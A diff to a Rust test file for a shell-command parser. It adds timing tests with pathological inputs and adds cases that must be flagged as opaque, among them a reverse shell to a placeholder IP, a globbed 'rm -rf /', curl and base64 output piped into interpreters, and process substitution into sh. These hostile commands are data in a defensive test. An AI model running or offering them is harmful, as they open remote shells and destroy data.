@@ -1,11 +1,6 @@
+//! Whole lines: bounds, what is opaque and what is not. The constructs have their tables in `construct_tests.rs`.
+
 use super::*;
-fn plain(line: &str) -> Vec<String> {
-    read(line).commands.iter().map(|c| c.words.iter().map(Word::text).collect::<Vec<_>>().join(" ")).collect()
-}
-#[test]
-fn bx_02_first() {
-    assert_eq!(plain("cd /x && rm -rf 'a b' | tee f; (ls)"), ["cd /x", "rm -rf a b", "tee f", "ls"]);
-}
 
 fn seconds(line: &str) -> f64 {
     let start = std::time::Instant::now();
@@ -51,12 +46,39 @@ fn bx_02_hostile_lines_are_bounded() {
         ("quote", "'".repeat(big + 1)),
         ("pipes", "echo a | ".repeat(50_000)),
         ("cases", "case a in a) b;; ".repeat(20)),
+        ("functions in functions", "f(){ ".repeat(n)),
+        ("a function that calls itself twice", "f(){ f;f; };f".to_owned()),
+        ("functions that call two", doubling()),
+        ("a function called often", format!("f(){{ {} }};{}", "a;".repeat(1_000), "f;".repeat(10_000))),
+        ("an alias of itself", "alias a='a;a'\na".to_owned()),
+        ("ranges", "{1..256}".repeat(n)),
+        (
+            "a range without end",
+            "echo {1..99999999999999999999} {-9223372036854775808..9223372036854775807}".to_owned(),
+        ),
+        ("arithmetic that never closes", "((a ".repeat(n)),
+        ("files", "echo a > f; sh f;".repeat(20_000)),
+        ("sed", format!("sed '{}'", "e x;".repeat(50_000))),
+        ("make", format!("make -f - <<< '{}'", "\ta\n".repeat(50_000))),
+        ("flags", format!("hyperfine {}", "a ".repeat(big))),
+        ("docker in docker", "docker run a ".repeat(n)),
+        ("read", format!("read a b c <<< '{}'", "x ".repeat(big))),
+        ("set", format!("set -- {}; shift; shift", "x ".repeat(50_000))),
     ] {
         let took = seconds(&line);
         assert!(took < 5.0, "{name} took {took} s");
     }
     assert!(!read(&"$(".repeat(n)).opaque.is_empty());
     assert!(!read(&"x".repeat(bounds_over())).opaque.is_empty());
+}
+
+/// Functions of which each calls the one before twice.
+fn doubling() -> String {
+    let mut line = String::from("f0(){ a; };");
+    for i in 1..40 {
+        line.push_str(&format!("f{i}(){{ f{};f{}; }};", i - 1, i - 1));
+    }
+    line + "f39"
 }
 
 fn bounds_over() -> usize {
@@ -75,6 +97,15 @@ fn bx_02_what_cannot_be_known_is_opaque() {
         ("base64 -d f | bash", OpaqueReason::UnknownInput, true),
         ("curl https://x | python3", OpaqueReason::UnknownInput, true),
         ("bash -c \"$X\"", OpaqueReason::UnknownInput, true),
+        ("sh < x.sh", OpaqueReason::UnknownInput, true),
+        ("python3 < x.py", OpaqueReason::UnknownInput, true),
+        ("bash -i >& /dev/tcp/192.0.2.1/9 0>&1", OpaqueReason::UnknownInput, true),
+        ("/bin/r? -rf /", OpaqueReason::UnknownProgram, true),
+        ("ls | parallel", OpaqueReason::UnknownInput, true),
+        ("cat jobs | crontab -", OpaqueReason::UnknownInput, true),
+        ("sed s/x/y/e f", OpaqueReason::UnknownInput, true),
+        ("echo x | tee >(sh)", OpaqueReason::UnknownInput, true),
+        ("rsync -e \"$RSH\" a b:", OpaqueReason::UnknownInput, false),
         ("echo 'a", OpaqueReason::Unbalanced, false),
         ("a\0b", OpaqueReason::NullByte, false),
     ] {
@@ -85,7 +116,6 @@ fn bx_02_what_cannot_be_known_is_opaque() {
         "ls | grep x",
         "cat f | python3 -m json.tool",
         "bash x.sh",
-        "sh < x.sh",
         "cat x | node -e 'a()'",
         "\"$VENV/bin/python\" x.py",
         "source venv/bin/activate",
@@ -112,6 +142,16 @@ fn bx_02_what_cannot_be_known_is_opaque() {
         "export A=1 B=\"x y\"",
         "((i++))",
         "echo {1..3} {}",
+        "echo {1..100000}",
+        "docker exec -it web npm test",
+        "kubectl exec pod -c app -- ls /srv",
+        "git -c core.pager=cat log --oneline",
+        "uv run -m pytest tests",
+        "tar -I zstd -cf a.tar.zst a",
+        "(( i += 1 )) && echo $((i * 2))",
+        "vim +10 file",
+        "make -j8 test",
+        "mysql db < dump.sql",
     ] {
         let script = read(line);
         assert!(script.opaque.is_empty(), "{line}: {:?}", script.opaque);
@@ -125,7 +165,8 @@ proptest::proptest! {
         "$(", ")", "`", "'", "\"", "$'", "${", "}", "{", ",", "<<E", "\n", "E", ";", "&", "&&", "|", "||", "((",
         "))", "[", "]", "[[", "]]", "=", "a", "a=", "rm", "-rf", " ", "  ", "$a", "~", "é", "\\", "case", "in",
         "esac", "for", "do", "done", "if", "fi", "<(", ">", "<", ">&", "2>", "<<<", "bash -c ", "eval ", "sudo ",
-        "xargs ", "find . -exec ", ":-", "#", "!", "\0", "python -c ", "os.system(", "*", "?", "()", "env -S ",
+        "xargs ", "find . -exec ", ":-", "#", "!", "\0", "python -c ", "os.system(", "*", "?", "()", "env -S ", "f(){ ", "};f ", "alias a=", "shift;", "set -- ",
+        "read x <<<", "${a[@]:1}", "{1..3}", "docker run ", "sed e", "IFS=,", "> f;sh f", "$((",
     ]), 0..40)) {
         let line = parts.concat();
         let script = read(&line);
